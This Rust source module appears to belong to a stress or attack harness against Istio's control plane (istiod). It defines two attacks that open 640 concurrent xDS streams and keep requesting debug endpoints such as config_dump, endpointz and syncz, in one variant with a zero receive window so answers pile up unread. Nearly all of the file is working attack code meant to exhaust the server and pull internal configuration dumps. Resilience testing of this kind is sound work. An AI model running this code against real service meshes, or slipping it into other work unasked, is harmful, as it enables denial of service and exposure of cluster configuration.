//! Attacks with the types that `istioctl` requests, from this machine.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use futures::FutureExt;

use crate::attacks::crowd;
use crate::dialer::{Dialer, SOTW};
use crate::wire::{Node, sotw};
use crate::{Attack, Counts, Deadline, Tally, Target};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "debug-answers",
        what: "640 streams that ask for debug pages, dumps and states of all clients, again and again, and \
            take no answer",
        run: |target, deadline| questions(target, deadline, 0).boxed(),
    },
    Attack {
        name: "debug-questions",
        what: "The same by clients that take their answers",
        run: |target, deadline| questions(target, deadline, 1 << 20).boxed(),
    },
];

/// Number of connections, and of streams on each.
const CONNECTIONS: usize = 32;
const STREAMS: usize = 20;
/// Types with the requested names.
const TYPES: [(&str, &[&str]); 5] = [
    ("istio.io/debug", &["configz"]),
    ("istio.io/debug", &["endpointz"]),
    ("istio.io/debug/syncz", &[]),
    ("istio.io/debug/config_dump", &["honest-1.bench"]),
    ("istio.io/connections", &[]),
];

async fn questions(target: Arc<Target>, deadline: Deadline, window: u32) -> Result<Tally> {
    let (counts, dialer) = (Counts::new(), Dialer::plaintext(&target).from(66));
    let shared = counts.clone();
    crowd(CONNECTIONS, deadline, &counts, move |index| {
        let (counts, dialer) = (shared.clone(), dialer.clone());
        async move {
            let mut client = dialer.connect_with_window(window).await?;
            let mut streams = Vec::new();
            for number in 0..STREAMS {
                let mut stream = client.open(SOTW, &[]).await?;
                let node = Node::numbered(index * STREAMS + number);
                for (at, (url, names)) in TYPES.iter().enumerate() {
                    let names: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
                    let request = sotw((at == 0).then_some(&node), url, &names);
                    counts.sent(request.len());
                    stream.send(&request)?;
                }
                streams.push(stream);
            }
            for stream in &mut streams {
                match tokio::time::timeout(Duration::from_millis(200), stream.next()).await {
                    Ok(Ok(_)) | Err(_) => counts.answered(),
                    Ok(Err(words)) => counts.refused(words),
                }
            }
            Ok(())
        }
    })
    .await;
    Ok(counts.tally())
}
